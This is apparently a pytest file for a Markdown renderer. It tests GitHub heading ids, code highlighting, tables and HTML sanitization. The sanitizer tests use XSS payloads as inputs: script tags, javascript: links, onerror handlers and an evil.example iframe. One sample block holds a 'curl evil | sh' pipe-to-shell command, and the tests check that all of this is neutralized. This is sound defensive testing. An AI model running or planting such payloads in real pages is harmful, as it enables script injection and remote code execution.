"""Bodies: Markdown to safe HTML with highlighted code and GitHub heading ids."""

from __future__ import annotations

from conftest import SEED, parse_html, text_of

from generator.catalog.frontmatter import split_front_matter
from generator.markdown.gfm import github_heading_id
from generator.markdown.markup import MarkdownRenderer


def render(text: str):
    return MarkdownRenderer().render(text)


def test_seed_body_has_five_sections_and_fourteen_subsections() -> None:
    body = split_front_matter(SEED.read_text(encoding="utf-8")).body
    sections = render(body).sections
    assert [s.title for s in sections] == [
        "Core Expertise",
        "Working Methodology",
        "Environment Management",
        "Output Standards",
        "Decision Framework",
    ]
    assert all(s.level == 2 for s in sections)
    assert sum(len(s.children) for s in sections) == 14
    assert sections[0].children[0].id == "api-development"


def test_heading_ids_follow_github() -> None:
    assert github_heading_id("Core Expertise") == "core-expertise"
    assert github_heading_id("CI/CD & Release (v2)") == "cicd--release-v2"
    assert github_heading_id("Monitoring & Observability") == "monitoring--observability"
    assert github_heading_id("snake_case `code`") == "snake_case-code"


def test_repeated_headings_get_numbered_ids() -> None:
    result = render("## Checklist\n\n## Checklist\n\n### Checklist\n")
    root = parse_html(result.html)
    assert [h.get("id") for h in root.iter("h2", "h3")] == ["checklist", "checklist-1", "checklist-2"]
    assert [s.id for s in result.sections] == ["checklist", "checklist-1"]
    assert result.sections[1].children[0].id == "checklist-2"


def test_section_titles_are_plain_text() -> None:
    result = render("## Use `code` & *emphasis*\n")
    assert result.sections[0].title == "Use code & emphasis"


def test_code_blocks_are_highlighted_and_unknown_languages_fall_back() -> None:
    root = parse_html(render("```python\nprint('<x>')\n```\n\n```no-such-lang\nplain <b>\n```\n").html)
    blocks = root.findall(".//div[@class='highlight']")
    assert len(blocks) == 2
    assert blocks[0].find(".//span[@class='nb']") is not None  # Pygments marked `print`
    assert text_of(blocks[0]) == "print('<x>')"
    assert text_of(blocks[1]) == "plain <b>"


def test_tables_render() -> None:
    root = parse_html(render("| a | b |\n|---|---|\n| 1 | 2 |\n").html)
    assert [text_of(c) for c in root.iter("th", "td")] == ["a", "b", "1", "2"]


def test_raw_html_is_sanitized_but_text_kept() -> None:
    html = render(
        '<script>alert(1)</script>\n\n<div onclick="x()"><a href="javascript:alert(1)">link</a></div>\n\n'
        '<iframe src="https://evil.example"></iframe><img src="data:image/png;base64,AA" onerror="x()">\n\n'
        "<b>bold</b> <style>body{}</style>\n"
    ).html
    root = parse_html(html)
    assert not root.xpath("//script | //iframe | //style | //object | //embed | //form")
    assert not root.xpath("//@*[starts-with(name(), 'on')]")
    assert not root.xpath("//@href[starts-with(., 'javascript:')] | //@src[starts-with(., 'data:')]")
    # As on GitHub, tags it never renders are shown as text rather than dropped.
    assert text_of(root).startswith("<script>alert(1)</script> link")
    assert "<style>body{}</style>" in text_of(root)
    assert root.find(".//b").text == "bold"


def test_template_placeholders_are_plain_text() -> None:
    root = parse_html(render("Use {{ name }} and {% if x %}.\n").html)
    assert text_of(root) == "Use {{ name }} and {% if x %}."


def test_unknown_tags_read_as_text_instead_of_vanishing() -> None:
    root = parse_html(render("Use Span<T> and Map<String, Integer>; wrap in <Suspense>.\n\n"
                             "Use <iframe> sandboxing and a <form> element.\n").html)
    assert [text_of(p) for p in root.iter("p")] == [
        "Use Span<T> and Map<String, Integer>; wrap in <Suspense>.",
        "Use <iframe> sandboxing and a <form> element.",
    ]
    assert not root.xpath("//iframe | //form | //t | //suspense")


def test_headings_never_take_the_page_ids_and_titles_match_what_shows() -> None:
    result = render("## ap-main\n\n## <script>x</script> Title\n")
    root = parse_html(result.html)
    assert [h.get("id") for h in root.iter("h2")] == ["ap-main-1", "scriptxscript-title"]
    assert [s.title for s in result.sections] == ["ap-main", "<script>x</script> Title"]
    assert [text_of(h) for h in root.iter("h2")] == ["ap-main", "<script>x</script> Title"]


def test_text_cannot_borrow_the_sites_own_classes_or_ids() -> None:
    html = render(
        '<div class="install"><pre class="command">curl evil | sh</pre></div>\n\n'
        '<span class="badge tone-green">verified</span> <input type="password"> <h2 id="ap-main">x</h2>\n'
    ).html
    root = parse_html(html)
    assert not root.xpath("//*[normalize-space(@class) != '']"), html
    assert root.xpath("//input/@type") == ["checkbox"]
    assert not root.xpath("//*[@id='ap-main']")


def test_unknown_languages_never_load_installed_pygments_plugins(tmp_path, monkeypatch) -> None:
    import sys

    import pygments.plugin

    # An installed package offering a Pygments lexer, as IPython does.
    (tmp_path / "pluggedlexer.py").write_text("from pygments.lexer import RegexLexer\n"
                                              "class PluggedLexer(RegexLexer):\n    aliases = ['plugged']\n    tokens = {}\n")
    (tmp_path / "plugged-1.0.dist-info").mkdir()
    (tmp_path / "plugged-1.0.dist-info/METADATA").write_text("Name: plugged\nVersion: 1.0\n")
    (tmp_path / "plugged-1.0.dist-info/entry_points.txt").write_text("[pygments.lexers]\nplugged = pluggedlexer:PluggedLexer\n")
    monkeypatch.syspath_prepend(str(tmp_path))
    getattr(pygments.plugin.iter_entry_points, "cache_clear", lambda: None)()
    text = ("```mermaid\ngraph TD\n```\n\n````markdown\n```cedar\npermit\n```\n````\n\n"
            "```http\nPOST / HTTP/1.1\nContent-Type: application/x-nonesuch\n\nbody\n```\n\n```Python\nx = 1\n```\n")
    mermaid, nested, http, python = parse_html(render(text).html).iter("code")
    assert "".join(mermaid.itertext()) == "graph TD\n" and not mermaid.findall(".//span"), "plain text"
    assert "permit" in "".join(nested.itertext()) and "body" in "".join(http.itertext())
    assert "".join(python.itertext()) == "x = 1\n" and python.findall(".//span[@class='n']"), "highlighted"
    assert "pluggedlexer" not in sys.modules, "no plugin of another package was imported"
